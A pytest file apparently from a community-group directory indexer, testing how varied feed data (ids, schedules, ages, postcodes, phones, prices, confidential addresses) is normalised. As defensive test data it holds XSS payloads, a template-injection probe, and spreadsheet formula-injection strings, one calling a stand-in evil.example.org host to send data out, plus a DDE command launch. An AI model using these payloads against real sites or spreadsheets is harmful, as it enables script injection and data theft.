"""The checklist, points 12 to 34: ids, shapes and values, each as a whole run of a feed in which
every record has the value in another form; then what the directory shows of it.

The forms of single values are proven at length in `test_values_of_records` and its neighbours.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import datetime
from typing import Any

import pytest
from sqlalchemy import select

from indexer import models as m
from indexer.matching.find import find
from indexer.store import Store
from schemas.listing import Listing
from tests.factories import OWNER, save_listing
from tests.fakes import FeedServer, LoopbackServer, Reply, Seen
from tests.sources import kinds
from tests.sources.whole_run import (
    Feed,
    WholeRun,
    addressed,
    at,
    brought_in,
    group,
    groups,
)


def all_of(store: Store, now: datetime, *members: dict[str, Any]) -> list[Listing]:
    """The listings of a feed of one record for each of `members`, in their order."""
    rows = [group(number, **one) for number, one in enumerate(members, start=1)]
    with brought_in(store, now, rows, per_page=50) as (here, _):
        (run,) = here.rows(m.Run)
        assert run.complete
        return [here.listing(row["id"]) for row in rows]


# -- identity ---------------------------------------------------------------------------------


def test_point_12_ids_of_every_kind_are_kept_apart_also_between_feeds(
    store: Store, now: datetime
) -> None:
    rows = [group(1, id=12045), group(2, id="12046"), group(3, id="bcc:78"), group(4, id=None)]
    other = [group(5, id=12045), group(6, id="bcc:78")]
    with Feed(rows) as one, Feed(other) as two:
        here = WholeRun(store, now)
        here.add(one, name="One")
        here.add(two, name="Two")
        first, second = here.run(name="One"), here.run(name="Two")
        assert (first.new, second.new) == (3, 2)
        (nameless,) = first.quarantined
        assert nameless["reason"].startswith("no_id")
        assert here.record(nameless["id"], "One").raw == rows[3]  # type: ignore[union-attr]
        again = [here.run(name=name, hours=24) for name in ("One", "Two")]
    assert [(run.new, run.changed, run.missing) for run in again] == [(0, 0, 0)] * 2
    assert len(here.listings()) == 5
    names = [here.listing("12045", name)["name"] for name in ("One", "Two")]
    assert names == [rows[0]["name"], other[0]["name"]]


def test_point_13_ids_that_change_on_each_export_make_no_copies(
    store: Store, now: datetime
) -> None:
    """Of records and of their parts alike; what people have set, and the address, stay."""

    def export(number: int) -> list[dict[str, Any]]:
        place = at(id=f"place {number}")
        return [
            group(
                one,
                id=f"{number}-{one}",
                organization={"id": f"org {number}", "name": "Neighbours"},
                service_at_locations=[{**place, "id": f"sal {number}"}],
                phones=[{"id": f"p {number}", "number": f"01924 4960{one:02}"}],
            )
            for one in range(1, 11)
        ]

    with brought_in(store, now, export(0)) as (here, feed):
        first = here.listing("0-1")
        edited = {**first, "summary": "Ours.", "first_visit": {"who_meets_you": "Jean"}}
        save_listing(store, edited, now, actor=OWNER)
        before = set(here.listings())
        for number in (1, 2, 3):
            feed.rows = export(number)
            report = here.run(hours=24 * number)
            assert (report.stopped, report.new, report.missing) == (None, 0, 0)
            assert any("new ids" in row for row in report.warnings)
        after = here.listings()
        assert set(after) == before
        ours = after[first["id"]]
        assert ours["summary"] == "Ours."
        assert ours["first_visit"]["who_meets_you"] == "Jean"
        assert all(row["signals"] == [] for row in after.values())
        assert len(here.found(q="lunch club", per_page=50, hours=72)) == 10
        # A known id that comes with another content is that record changed, and no other one.
        feed.row("3-2")["name"] = "Chair yoga"
        assert here.run(hours=96).changed == 1


def test_point_14_parts_with_one_id_in_many_records_stay_with_their_own(
    store: Store, now: datetime
) -> None:
    rows = [
        group(
            number,
            service_at_locations=[at(id="1", name=f"Hall {number}",
                                     addresses=addressed(address_1=f"{number} High Street"))],
            schedules=[{"id": "1", "freq": "WEEKLY", "byday": day}],
            contacts=[{"id": "1", "name": name, "phones": [{"id": "1", "number": phone}]}],
            phones=None,
        )
        for number, day, name, phone in (
            (1, "MO", "Ann", "01924 496011"), (2, "TU", "Bob", "01924 496012"),
        )
    ]  # fmt: skip
    with brought_in(store, now, rows) as (here, _):
        pages = [here.page("g1"), here.page("g2")]
    own = (
        ("Hall 1", "1 High Street", "Every Monday", "Ann", "01924 496011"),
        ("Hall 2", "2 High Street", "Every Tuesday", "Bob", "01924 496012"),
    )
    for page, mine, other in zip(pages, own, reversed(own), strict=True):
        page = page.partition("Similar groups nearby")[0]
        assert [words for words in mine if words not in page] == []
        assert [words for words in other if words in page] == []


SHARED: dict[str, Callable[[int], dict[str, Any]]] = {
    "number": lambda _: {
        "organization": {"name": "Neighbours", "organization_identifiers": [
            {"identifier_scheme": "GB-CHC", "identifier": "1234567"}]},
    },
    "UPRN": lambda _: {
        "service_at_locations": [at(external_identifier_type="UPRN",
                                    external_identifier="100050", addresses=addressed())],
    },
    "postcode and name": lambda _: {"service_at_locations": [at()]},
    "telephone": lambda n: {"phones": [{"number": ("01924 496001", "+44 1924 496001")[n]}]},
    "domain": lambda n: {"url": f"https://{('', 'www.')[n]}morningbakers.example.org/{'a' * n}"},
}  # fmt: skip


@pytest.mark.parametrize("shared", SHARED)
def test_point_15_one_group_in_several_feeds_is_shown_as_a_possible_duplicate(
    store: Store, now: datetime, shared: str
) -> None:
    bare = {"service_at_locations": None, "phones": None, "url": None, "schedules": None}
    names = ("Morning Bakers", "Morning Bakers Group")
    feeds = [
        [group(1, name=name, **{**bare, **SHARED[shared](number)}),
         group(2, name=f"Sewing for beginners {number}", id=f"other {number}")]
        for number, name in enumerate(names)
    ]  # fmt: skip
    with Feed(feeds[0]) as one, Feed(feeds[1]) as two:
        here = WholeRun(store, now)
        here.add(one, name="One")
        here.add(two, name="Two")
        here.run(name="One")
        here.run(name="Two")
    find(store, now=now)
    ids = sorted(here.listing("g1", name)["id"] for name in ("One", "Two"))
    pairs = {(row.one, row.other): row for row in here.rows(m.Duplicate)}
    pair = pairs[ids[0], ids[1]]
    assert (pair.state, bool(pair.why)) == ("open", True)
    # It is only shown: both stay, each with its own source, until a person decides.
    assert len(here.listings()) == 4
    assert all(len(row["sources"]) == 1 for row in here.listings().values())


# -- shape ------------------------------------------------------------------------------------


DIALECTS = [good for good in kinds.GOOD if good.kind in
            ("oruk3", "oruk1", "outpost", "hsds_tables", "native")]  # fmt: skip


@pytest.mark.parametrize("good", DIALECTS, ids=lambda good: good.kind)
def test_point_16_the_field_names_of_every_dialect_are_understood(
    store: Store, now: datetime, good: kinds.Good
) -> None:
    with kinds.Publisher(good) as server:
        here = WholeRun(store, now)
        here.add(server, path=good.path or "/")
        report = here.run()
    assert (report.kind, report.complete, report.new) == (good.kind, True, 3)
    (first,) = [row for row in here.listings().values() if row["name"] == "Choir 1"]
    page = here.page(first["sources"][0]["id"])
    timed = () if good.kind == "hsds_tables" else ("Every Tuesday", "2pm")
    for words in ("Choir 1", "We sing together.", *timed):
        assert words in page
    assert "Choir 1" in here.found(q="choir")


def hull() -> dict[str, Any]:
    """Small letters without underscores, numbers as text."""
    place = {
        "id": "s",
        "location": {
            "id": "l",
            "name": "St Mary's hall",
            "latitude": "53.683",
            "longitude": "-1.4977",
            "physicaladdresses": [{"address1": "Charlotte Street", "postalcode": "WF1 2AP"}],
        },
    }
    times = [{"weekday": "4", "opensat": "12:00:00", "closesat": "14:00:00"}]
    ages = [{"eligibility": "adult", "minimumage": "50", "maximumage": "null"}]
    return {"id": "h1", "name": "Lunch", "status": "active", "serviceatlocations": [place],
            "regularschedules": times, "eligibilitys": ages}  # fmt: skip


def test_point_16_names_in_small_letters_without_underscores_are_understood(
    store: Store, now: datetime
) -> None:
    page = {"totalelements": "1", "totalpages": "1", "content": [hull()]}

    def answer(request: Seen) -> Reply:
        return Reply(page) if request.path == "/services" else Reply({}, status=404)

    with LoopbackServer(answer) as server:
        here = WholeRun(store, now)
        here.add(server, path="/")
        report = here.run()
    assert (report.kind, report.new) == ("oruk1", 1)
    listing = here.listing("h1")
    assert listing["age"] == {"min": 50, "max": None}
    assert listing["sessions"][0]["days"] == ["thu"]
    assert listing["venues"][0]["postcode"] == "WF1 2AP"


EMPTY = ("description", "url", "email", "phones", "schedules", "fees", "minimum_age",
         "maximum_age", "eligibility_description", "languages", "alert", "cost_options",
         "service_areas", "alternate_name", "attributes")  # fmt: skip


def test_point_17_every_way_to_say_nothing_is_shown_as_not_known(
    store: Store, now: datetime
) -> None:
    ways: list[Any] = [None, "", "  ", "null", "N/A", "n/a", "-", "None", [], {}]
    # `group` leaves out what is None, which is the missing one; null itself comes by the second.
    told: list[dict[str, Any]] = [dict.fromkeys(EMPTY, way) for way in ways]
    rows = [group(number, name="Knitters", **one) for number, one in enumerate(told, start=1)]
    rows[1].update(dict.fromkeys(EMPTY))
    with brought_in(store, now, rows) as (here, _):
        first, *others = (here.listing(row["id"]) for row in rows)
        page = here.page("g4")
    own = {"id", "sources"}
    for other in others:
        assert {k: v for k, v in other.items() if k not in own} == {
            k: v for k, v in first.items() if k not in own
        }
    assert first["cost"]["state"] == "unknown"
    assert (first["age"], first["contacts"], first["sessions"]) == (
        {"min": None, "max": None}, [], [],
    )  # fmt: skip
    assert "Cost Not known – ask" in page
    assert not {"null", "N/A", "None"} & set(page.split())


def test_point_18_scalars_and_objects_where_lists_belong_cost_no_record(
    store: Store, now: datetime
) -> None:
    parts = ("schedules", "phones", "contacts", "languages", "cost_options", "service_areas",
             "attributes", "service_at_locations", "organization", "accessibility")  # fmt: skip
    junk: list[Any] = ["text", 7, True, ["text"], [None], [[{}]], {"id": "x"}]
    told = [{part: value} for part in parts for value in junk]
    rows = [group(number, **one) for number, one in enumerate(told, start=1)]
    with brought_in(store, now, rows, per_page=50) as (here, _):
        assert len(here.listings()) == len(rows)
        (run,) = here.rows(m.Run)
        assert run.figures["quarantined"] == []


def test_point_18_one_object_is_read_as_a_list_of_one(store: Store, now: datetime) -> None:
    one = {"freq": "WEEKLY", "byday": "TU"}
    (listing,) = all_of(
        store, now,
        {"schedules": one, "service_at_locations": at(), "phones": {"number": "01924 496001"},
         "languages": {"name": "Urdu"}},
    )  # fmt: skip
    assert [row["days"] for row in listing["sessions"]] == [["tue"]]
    assert len(listing["venues"]) == 1
    assert listing["contacts"][0]["phones"] == ["01924 496001"]
    assert [row["id"] for row in listing["languages"]] == ["ur"]


def test_point_19_references_back_and_without_end_cost_no_record(
    store: Store, now: datetime
) -> None:
    inner = group(1)
    circle = group(1)
    circle["service_at_locations"][0]["service"] = inner
    circle["service_at_locations"][0]["location"]["service_at_locations"] = [{"service": inner}]
    circle["organization"]["services"] = [inner]
    parent: dict[str, Any] = {"id": "top", "name": "Top"}
    for number in range(300):
        parent = {"id": str(number), "name": "Lunch clubs", "parent": parent}
    rows = [circle, group(2, attributes=[{"taxonomy_term": parent}]), group(3)]
    with brought_in(store, now, rows) as (here, feed):
        assert len(here.listings()) == 3
        assert len(here.listing("g1")["venues"]) == 1
        assert here.listing("g2")["needs"][0]["id"] == "company.shared_meals"
        # One that nests deeper than any program reads costs its page, and nothing that is known.
        deep = b'{"contents": [{"id": "g1", "parent": ' + b'{"parent": ' * 100_000
        feed.misbehave = lambda request: Reply(deep) if request.path == "/services" else None
        for hours in (24, 60):
            report = here.run(hours=hours, accept=True)
            assert (report.complete, report.missing) == (False, 0)
        assert len(here.found(q="lunch club", hours=60)) == 3


def test_point_20_a_record_whose_detail_fails_is_shown_from_its_list_row(
    store: Store, now: datetime
) -> None:
    with FeedServer() as server:
        row = server.rows[0]
        server.replies[f"services/{row['id']}"] = Reply(status=500)
        here = WholeRun(store, now)
        here.add(server, path="/")
        report = here.run()
        assert report.complete
        assert "detail_failed" in here.said(row["id"])
        assert here.listing(row["id"])["name"] == row["name"]
        server.replies.clear()
        assert here.run(hours=24).changed == 1
        whole = here.listing(row["id"])
        assert "detail_failed" not in here.said(row["id"])
        server.replies[f"services/{row['id']}"] = Reply(b"<p>sorry</p>")
        assert here.run(hours=48).changed == 0
    last_seen: Listing = {"sources": []}
    assert {**here.listing(row["id"]), **last_seen} == {**whole, **last_seen}


def test_point_21_what_no_standard_knows_is_kept_as_it_came(store: Store, now: datetime) -> None:
    extra = {"x_ward": {"deep": [1, {"a": None}, "é"]}, "_score": 0.1, "Own Field": [[]]}
    with brought_in(store, now, [group(1, **extra)]) as (here, feed):
        record = here.record("g1")
        assert record is not None
        assert record.raw == feed.rows[0]
        feed.row("g1")["x_ward"] = {"deep": 2}
        report = here.run(hours=24)
        assert (report.changed, report.unchanged) == (0, 1)
        assert here.record("g1").raw["x_ward"] == {"deep": 2}  # type: ignore[union-attr]


# -- values -----------------------------------------------------------------------------------


def test_point_22_dates_in_every_form_are_the_same_day(store: Store, now: datetime) -> None:
    forms = ["2026-08-01", "2026-08-01T09:30:00", "2026-08-01T09:30:00Z",
             "2026-07-31T23:30:00+00:00", "2026-08-01 09:30:00.123", "01/08/2026", "1/8/2026",
             "01-08-2026", "1 August 2026", "Saturday 1st August 2026"]  # fmt: skip
    free = ["31/02/2026", "summer", "last year", "2026", "0000-00-00", "2031-01-01"]
    listings = all_of(store, now, *({"assured_date": form} for form in [*forms, *free]))
    checked = [row["sources"][0]["checked_on"] for row in listings]
    assert checked == ["2026-08-01"] * len(forms) + [None] * len(free)


def test_point_23_times_and_days_in_every_form_are_the_same(store: Store, now: datetime) -> None:
    hours = [("9:00", "10:30"), ("09:00:00", "10:30:00"), ("09:00Z", "10:30Z"),
             ("09:00+01:00", "10:30+01:00"), ("9am", "10.30am"), ("09.00", "10.30")]  # fmt: skip
    days: list[dict[str, Any]] = [
        {"byday": "FR"}, {"byday": "Friday"}, {"byday": "fri"}, {"weekday": 5}, {"weekday": "5"},
        {"byday": ["FR"]}, {"byday": "https://schema.org/Friday"},
    ]  # fmt: skip
    told = [{"freq": "WEEKLY", "byday": "FR", "opens_at": a, "closes_at": b} for a, b in hours]
    told += [{"freq": "WEEKLY", "opens_at": "09:00", "closes_at": "10:30", **one} for one in days]
    told += [
        {"freq": "9am - 10.30am every Friday"},
        {"freq": "Every Friday", "byday": "Friday 9am - 10.30am", "dtstart": "9am - 10.30am"},
    ]
    for one, row in zip(told, all_of(store, now, *({"schedules": [x]} for x in told)), strict=True):
        (session,) = row["sessions"]
        read = (session["days"], session["opens"], session["closes"], session["every"])
        assert read == (["fri"], "09:00", "10:30", "week"), one


def test_point_24_schedule_columns_that_are_empty_or_disagree_promise_nothing(
    store: Store, now: datetime
) -> None:
    columns = ("freq", "byday", "dtstart", "opens_at", "closes_at", "valid_from", "until")
    empty: list[dict[str, Any]] = [{}, dict.fromkeys(columns), dict.fromkeys(columns, "")]
    odd: list[dict[str, Any]] = [
        {"freq": "Every Friday", "byday": "MO"},
        {"freq": "WEEKLY", "byday": "2TU"},
        {"freq": "MONTHLY", "bymonthday": "99"},
        {"freq": "WEEKLY", "byday": "ZZ"},
        {"opens_at": "14:00", "closes_at": "12:00"},
        {"freq": "YEARLY", "interval": "often"},
    ]
    listings = all_of(store, now, *({"schedules": [one]} for one in empty + odd))
    assert [row["sessions"] for row in listings[: len(empty)]] == [[]] * len(empty)
    second = listings[len(empty) + 1]
    assert [(one["every"], one["nth"]) for one in second["sessions"]] == [("month", [2])]
    # No next date is made up for any of the others; what was said stays to be read.
    here = WholeRun(store, now)
    for number in (1, 2, 3, 4, 6, 7, 8, 9):
        page = here.page(f"g{number}").partition("Similar groups")[0]
        assert "Next dates" not in page
    assert all(not one["days"] for one in listings[len(empty)]["sessions"])
    assert "Every Friday; Monday" in here.page("g4")
    assert {"schedule_contradictory"} <= here.said("g4") & here.said("g5")
    assert [(row.external_id, row.field) for row in here.rows(m.Quarantine)] == [
        ("g6", "sessions.0.rrule")
    ]


def test_point_25_ages_in_every_form(store: Store, now: datetime) -> None:
    forms: list[tuple[Any, Any, Any, Any]] = [
        (18, 25, 18, 25), ("18", "25", 18, 25), ("18 years", "25 yrs", 18, 25),
        ("50+", None, 50, None), (13, 0, 13, None), ("0", "0", 0, None), (0.5, 4.0, 0.5, 4),
        ("6 months", "4", 0.5, 4), (18, 999, 18, None), ("null", "", None, None),
        (40, 20, None, None), (-3, None, None, None), ("grown up", None, None, None),
    ]  # fmt: skip
    listings = all_of(store, now, *({"minimum_age": a, "maximum_age": b} for a, b, _, _ in forms))
    ages = [(row["age"]["min"], row["age"]["max"]) for row in listings]
    assert ages == [(low, high) for _, _, low, high in forms]
    # Two ages that cannot both be right are told in words and keep nobody out.
    assert "40 to 20, which cannot both be right" in (listings[10]["eligibility"] or "")
    here = WholeRun(store, now)
    assert listings[10]["name"] in here.found(q="lunch club", age=30, per_page=50)
    assert listings[0]["name"] not in here.found(q="lunch club", age=60, per_page=50)


def test_point_26_prices_as_words_and_the_amount_0(store: Store, now: datetime) -> None:
    forms: list[tuple[dict[str, Any], str, list[Any]]] = [
        ({"cost_options": [{"amount": 0}]}, "free", [0]),
        ({"cost_options": [{"amount": "0.00"}]}, "free", [0]),
        ({"cost_options": [{"amount": "free"}]}, "free", [0]),
        ({"cost_options": [{"amount": "50p"}]}, "paid", [0.5]),
        ({"cost_options": [{"amount": "£2.50 per session"}]}, "paid", [2.5]),
        ({"cost_options": [{"amount": None, "option": "Ask us"}]}, "unknown", [None]),
        ({"fees": "£2 a session, carers free"}, "paid", [2]),
        ({"fees": "Free"}, "free", []),
        ({"fees": "Donations welcome"}, "donation", []),
        ({"fees": "Free for members"}, "unknown", []),
        ({"fees": "Please ask"}, "unknown", []),
        ({}, "unknown", []),
    ]
    listings = all_of(store, now, *(one for one, _, _ in forms))
    for listing, (told, state, amounts) in zip(listings, forms, strict=True):
        cost = listing["cost"]
        assert (cost["state"], [one["amount"] for one in cost["options"]]) == (state, amounts), told
    here = WholeRun(store, now)
    free = here.found(q="lunch club", cost="free", per_page=50)
    assert {row["name"] for row in listings if row["cost"]["state"] == "paid"}.isdisjoint(free)
    page = here.page("g7")
    assert "£2 a session, carers free" in page


def test_point_27_points_that_cannot_be_right_give_way_to_the_postcode(
    store: Store, now: datetime
) -> None:
    postcode = store.places.postcode("WF1 2AP")
    assert postcode is not None
    forms: list[tuple[Any, Any, str]] = [
        (53.683, -1.4977, "given"), ("53.683", "-1.4977", "given"), (-1.4977, 53.683, "given"),
        (0, 0, "postcode"), ("0", "0.0", "postcode"), (40.7, -74.0, "postcode"),
        (None, None, "postcode"), ("", "n/a", "postcode"), (51.5, -0.12, "postcode"),
        (54.9, 1.2, "postcode"), (53.683, None, "postcode"), (91, 181, "postcode"),
    ]  # fmt: skip
    told = [{"service_at_locations": [at(latitude=a, longitude=b)]} for a, b, _ in forms]
    for (lat, lon, means), row in zip(forms, all_of(store, now, *told), strict=True):
        (venue,) = row["venues"]
        there = (53.683, -1.4977) if means == "given" else (postcode.lat, postcode.lon)
        assert venue["point_from"] == means, (lat, lon)
        assert (venue["lat"], venue["lon"]) == pytest.approx(there, abs=1e-5)
    here = WholeRun(store, now)
    near = here.found(near="WF1 2AP", within=2, q="lunch club", per_page=50)
    assert len(near) == len(forms)


def test_point_27_a_point_in_the_sea_without_a_postcode_is_not_shown(
    store: Store, now: datetime
) -> None:
    places = [at(latitude=0, longitude=0, addresses=addressed()),
              at(latitude=30.0, longitude=-40.0, addresses=addressed())]  # fmt: skip
    for listing in all_of(store, now, *({"service_at_locations": [one]} for one in places)):
        (venue,) = listing["venues"]
        # What is left is the town, and the directory says that it is no more than that.
        assert venue["point_from"] == "place"
        assert (venue["lat"], venue["lon"]) == pytest.approx((53.68, -1.5), abs=0.05)
    here = WholeRun(store, now)
    assert "coordinates_zero" in here.said("g1")
    assert "coordinates_outside_uk" in here.said("g2")
    assert "Charlotte Street" in here.page("g1")


def test_point_28_postcodes_in_every_form(store: Store, now: datetime) -> None:
    forms = [
        ("WF12AP", "WF1 2AP"), (" wf1  2ap ", "WF1 2AP"), ("WF1-2AP", "WF1 2AP"), ("WF1", "WF1"),
        ("ABC 1234", None), ("90210", None), ("75008 Paris", None), ("n/a", None),
    ]  # fmt: skip
    told = [
        {"service_at_locations": [at(latitude=None, longitude=None,
                                     addresses=addressed(postal_code=sent))]}
        for sent, _ in forms
    ]  # fmt: skip
    listings = all_of(store, now, *told)
    assert [row["venues"][0]["postcode"] for row in listings] == [kept for _, kept in forms]
    found_from = [row["venues"][0]["point_from"] for row in listings]
    assert found_from == ["postcode"] * 3 + ["postcode_part"] + ["place"] * 4
    here = WholeRun(store, now)
    assert "postcode_invalid" in here.said("g5")
    assert "ABC 1234" not in here.page("g5")
    assert "Charlotte Street" in here.page("g5")


def test_point_29_a_masked_or_confidential_address_is_never_found_out(
    store: Store, now: datetime
) -> None:
    secret = {"location_type": "postal", "name": "Refuge (address confidential)",
              "latitude": None, "longitude": None}  # fmt: skip
    cut = addressed(postal_code="WF1", address_1="Market Square")
    told = [
        {"service_at_locations": [at(**secret, addresses=[])]},
        {"service_at_locations": [at(**secret, addresses=addressed(postal_code="WF1 2AP"))]},
        {"service_at_locations": [at(latitude=53.68, longitude=-1.5, addresses=cut)]},
    ]
    listings = all_of(store, now, *told)
    here = WholeRun(store, now)
    for number, listing in enumerate(listings, start=1):
        (venue,) = listing["venues"]
        assert venue["hidden"]
        assert (venue["name"], venue["address"]) == (None, None)
        assert venue["point_from"] in (None, "postcode_part")
        assert venue["postcode"] in (None, "WF1")
        page = here.page(f"g{number}").partition("Similar groups")[0]
        for word in ("Charlotte Street", "Market Square", "WF1 2AP", "Refuge", "53.68"):
            assert word not in page
        shown = json.dumps(here.listing(f"g{number}"))
        assert "Street" not in shown
        assert "WF1 2AP" not in shown
    # The same feed again finds out no more than the first time.
    assert [row["venues"] for row in here.listings().values() if row["venues"][0]["lat"]] == [
        listings[2]["venues"]
    ]


def test_point_30_telephone_numbers_in_prose_and_with_extensions(
    store: Store, now: datetime
) -> None:
    forms: list[tuple[dict[str, Any], list[str]]] = [
        ({"number": "Phone No: (01924) 496001 Ext: 1041"}, ["01924 496001 ext. 1041"]),
        ({"number": "01924 496001", "extension": 3}, ["01924 496001 ext. 3"]),
        ({"number": "01924 496001 or 01924 496002"}, ["01924 496001", "01924 496002"]),
        ({"number": "+44 (0)1924 496001"}, ["01924 496001"]),
        ({"number": "01924496001"}, ["01924 496001"]),
        ({"number": "Ring 01924 496001 after six and ask for Ann"}, ["01924 496001"]),
        ({"number": "tset"}, []), ({"number": "23"}, []), ({"number": 1924496001}, []),
    ]  # fmt: skip
    listings = all_of(store, now, *({"phones": [phone]} for phone, _ in forms))
    kept = [[one for row in x["contacts"] for one in row["phones"]] for x in listings]
    assert kept[:8] == [numbers for _, numbers in forms][:8]
    here = WholeRun(store, now)
    page = here.page("g6")
    assert "after six and ask for Ann" in page
    assert "01924 496001" in page
    assert "phone_invalid" in here.said("g7")
    assert "tset" not in here.page("g7")


def test_point_31_links_without_a_scheme_and_several_mail_addresses(
    store: Store, now: datetime
) -> None:
    told: list[dict[str, Any]] = [
        {"url": "www.club.example.org", "email": " a@club.example.org; b@club.example.org "},
        {"url": "DHS 4 In 1 App", "email": "www.club.example.org"},
        {"url": "javascript:alert(1)", "email": "mailto:a@club.example.org"},
        {"url": "HTTPS://club.example.org/a b", "email": "a@club"},
        {"url": "ftp://club.example.org", "email": "a@club.example.org, a@club.example.org"},
    ]
    listings = all_of(store, now, *told)
    assert [row["website"] for row in listings] == [
        "https://www.club.example.org", None, None, None, None
    ]  # fmt: skip
    mails = [[one["email"] for one in row["contacts"] if one["email"]] for row in listings]
    a, b = "a@club.example.org", "b@club.example.org"
    assert mails == [[a, b], [], [a], [], [a]]
    here = WholeRun(store, now)
    assert {"url_no_scheme", "email_split"} <= here.said("g1")
    assert "url_invalid" in here.said("g2")


ATTACKS = (
    "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "{{ 7*7 }}",
    "[x](javascript:alert(1))", "<a href='javascript:alert(1)'>x</a>",
)  # fmt: skip


def test_point_32_markup_is_text_on_the_page_and_scripts_are_gone(
    store: Store, now: datetime
) -> None:
    html = (
        "<h2>About&nbsp;us</h2>\r\n<p>Tea &amp; cake,<br>every <b>week</b>.</p>\r\n"
        "<ul><li>Chat</li><li>Games</li></ul>"
    )
    markdown = "# About us\r\n\r\n**Tea** and _cake_.\r\n* Chat\r\n* Games\r\n \r\n"
    rows = [group(1, description=html), group(2, description=markdown)]
    rows += [
        group(
            number, description=f"We sing. {attack}", alert=attack, fees=attack,
            name=f"Choir {number} {attack}", eligibility_description=attack,
            service_at_locations=[at(name=attack, description=attack,
                                     addresses=addressed(address_1=attack))],
            contacts=[{"name": attack, "title": attack, "email": attack}],
            organization={"name": f"Us {attack}", "website": f"javascript:{attack}"},
            schedules=[{"freq": "WEEKLY", "byday": "MO", "description": attack}],
        )
        for number, attack in enumerate(ATTACKS, start=3)
    ]  # fmt: skip
    with brought_in(store, now, rows) as (here, _):
        first, second = here.listing("g1"), here.listing("g2")
        assert " ".join(first["description"].split()) == (
            "About us Tea & cake, every week. - Chat - Games"
        )
        assert " ".join(second["description"].split()) == "About us Tea and cake. - Chat - Games"
        assert "\r" not in first["description"] + second["description"]
        for row in rows:
            listing = json.dumps(here.listing(row["id"]))
            for sign in ("<script", "<img", "<svg", '"javascript:', "<a href"):
                assert sign not in listing
            # The browser of the tests fails on code, on a broken page and on what leaks into it.
            page = here.page(row["id"], may_contain=["{{", "}}"])
            assert "We sing." in page or row["id"] in ("g1", "g2")
            assert "49" not in page.split("Choir", 1)[-1][:12]


def test_point_33_fillers_are_nothing_and_trial_records_are_set_aside(
    store: Store, now: datetime
) -> None:
    names = ("Test Service", "test", "Lorem ipsum dolor", "TEST - please ignore", "Dummy record")
    rows = [group(number, name=name) for number, name in enumerate(names, start=1)]
    fillers = ("n/a", "tbd", "TBC", "test", "lorem ipsum dolor sit", "-")
    rows += [
        group(number, name=f"Test Valley Walkers {number}", description=filler, fees=filler)
        for number, filler in enumerate(fillers, start=len(names) + 1)
    ]
    with brought_in(store, now, rows) as (here, _):
        (run,) = here.rows(m.Run)
        aside = {row["id"]: row["reason"] for row in run.figures["quarantined"]}
        assert set(aside) == {row["id"] for row in rows[: len(names)]}
        assert all(reason.startswith("placeholder_record") for reason in aside.values())
        assert len(here.listings()) == len(fillers)
        for row in rows[len(names) :]:
            assert here.listing(row["id"])["description"] is None
            assert here.listing(row["id"])["cost"]["state"] == "unknown"
        assert here.found(q="test valley walkers", per_page=50) != []
        assert all("Test Valley" in name for name in here.found(q="test", per_page=50))
    # What was set aside is kept whole, for a person to look at.
    assert here.record("g1").raw == rows[0]  # type: ignore[union-attr]


def test_point_34_a_status_outside_the_list_neither_closes_nor_opens_for_certain(
    store: Store, now: datetime
) -> None:
    forms = [("active", "open"), ("ACTIVE ", "open"), (None, "open"), ("", "open"),
             ("Verified", "open"), ("Verification in Progress", "open"), ("draft", "open"),
             ("temporarily closed", "temporarily_closed"), ("inactive", "closed"),
             ("defunct", "closed")]  # fmt: skip
    listings = all_of(store, now, *({"status": status} for status, _ in forms))
    assert [row["status"]["state"] for row in listings] == [state for _, state in forms]
    here = WholeRun(store, now)
    assert "verification in progress" in listings[5]["status"]["note"]
    assert "Not yet confirmed" in here.page("g6")
    assert "status_unknown" in here.said("g6")
    found = here.found(q="lunch club", per_page=50)
    assert listings[8]["name"] not in found
    assert listings[4]["name"] in found


# -- the worst that may come ------------------------------------------------------------------


def test_a_description_of_five_megabytes_is_cut_and_its_neighbours_come_in(
    store: Store, now: datetime
) -> None:
    rows = [group(1), group(2, description="word " * 1_000_000), group(3)]
    with brought_in(store, now, rows) as (here, _):
        assert len(here.listings()) == 3
        assert len(here.listing("g2")["description"]) <= 20_000
        assert "text_too_long" in here.said("g2")
        assert len(here.page("g2")) < 60_000
        assert "Lunch club ccc" in here.found(q="lunch club")


def test_a_formula_is_set_aside_as_a_name_and_is_plain_text_elsewhere(
    store: Store, now: datetime
) -> None:
    formula = '=HYPERLINK("http://evil.example.org/?x="&A1,"Click")'
    rows = [group(1, name=formula), group(2, description=formula, fees="=1+cmd|'/C calc'!A0")]
    with brought_in(store, now, [*rows, group(3)]) as (here, _):
        (run,) = here.rows(m.Run)
        (aside,) = run.figures["quarantined"]
        assert aside["id"] == "g1"
        assert aside["reason"].startswith("formula_text")
        assert len(here.listings()) == 2
        with store.read() as db:
            kept = db.scalars(select(m.Quarantine.state)).all()
        assert kept == ["open"]


def test_ids_of_groups_are_never_lost_when_half_of_a_feed_is_renamed(
    store: Store, now: datetime
) -> None:
    """Half of the ids are new: a person is asked, and nothing goes before that."""
    with brought_in(store, now, groups(10)) as (here, feed):
        feed.rows = [*groups(5), *(group(n, id=f"new {n}", name=f"New {n}") for n in range(6, 11))]
        report = here.run(hours=24)
        assert report.stopped is not None
        assert "5 of 10" in report.stopped
        assert len(here.listings()) == 10
